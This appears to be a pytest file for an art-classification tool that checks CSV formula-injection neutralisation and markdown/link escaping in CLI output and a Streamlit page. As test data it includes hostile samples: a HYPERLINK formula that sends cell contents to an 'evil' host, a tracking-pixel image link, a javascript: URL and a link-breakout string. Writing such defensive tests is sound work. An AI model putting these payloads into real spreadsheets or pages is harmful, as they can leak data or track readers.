"""Output that is only data: spreadsheet formulas neutralised in every CSV for people; data shown as text."""

from __future__ import annotations

import csv
import shutil

import pandas as pd
import pytest

from artlab.cli import main
from artlab.report.csvsafe import md, md_link, neutralise, safe_frame

HOSTILE = ["=HYPERLINK(\"http://evil/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


def test_owasp_prefixes_are_quoted_and_numbers_stay_numbers():
    assert [neutralise(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert neutralise("portrait") == "portrait" and neutralise(-0.5) == -0.5
    df = safe_frame(pd.DataFrame({"file": HOSTILE, "p": [-1.0] * 6}))
    assert df["file"].str.startswith("'").all() and (df["p"] == -1.0).all()


def test_predict_and_explain_csv_with_a_formula_file_name(genre_run, demo_images, tmp_path, monkeypatch):
    name = "=HYPERLINK(\"evil.example\",\"x\")+1.jpg"
    shutil.copyfile(demo_images[0], tmp_path / name)
    before = (tmp_path / name).read_bytes()
    monkeypatch.chdir(tmp_path)
    assert main(["predict", str(genre_run), name, "--csv", "p.csv"]) == 0
    assert main(["explain", str(genre_run), name, "--out", "why"]) == 0
    for table in (tmp_path / "p.csv", tmp_path / "why" / "predictions.csv"):
        with open(table, newline="") as f:
            rows = list(csv.DictReader(f))
        assert rows[0]["file"] == "'" + name
        assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for r in rows for c in r.values())
    assert (tmp_path / name).read_bytes() == before


def test_markdown_from_data_is_shown_as_text():
    title = "![x](http://evil.example/pixel.png) **bold** <img src=x> :red[alarm] [link](http://evil)"
    shown = md(title)
    for raw in ("![x](", "**bold**", ":red[", "[link]("):
        assert raw not in shown
    assert "\\<img" in shown  # an escaped '<': CommonMark shows it as the character
    assert md_link("museum page", "https://www.metmuseum.org/art/collection/search/1") .startswith("[museum page](")
    assert md_link("museum", "javascript:alert(1)") == "" and md_link("m", "http://x/a) ![i](http://evil") == ""


def test_app_page_renders_a_hostile_title_as_text(genre_run, tmp_path, monkeypatch):
    from pathlib import Path
    from streamlit.testing.v1 import AppTest
    run = tmp_path / "runs" / "r"
    shutil.copytree(genre_run, run)
    meta = pd.read_csv(run / "paintings.csv", dtype=str, keep_default_na=False)
    meta["title"] = "![x](http://evil.example/pixel.png)"
    meta.to_csv(run / "paintings.csv", index=False)
    monkeypatch.setenv("ARTLAB_RUNS", str(run.parent))
    at = AppTest.from_file(str(Path(__file__).resolve().parent.parent / "app.py"), default_timeout=120)
    at.session_state["runs_root"] = str(run.parent)
    at.run()
    at.switch_page("pages/misclassifications.py").run()
    assert not at.exception
    texts = [m.value for m in at.markdown] + [c.value for c in at.caption]
    assert not any("![x](http" in t for t in texts)
    assert any("\\!\\[x\\]" in t for t in texts)
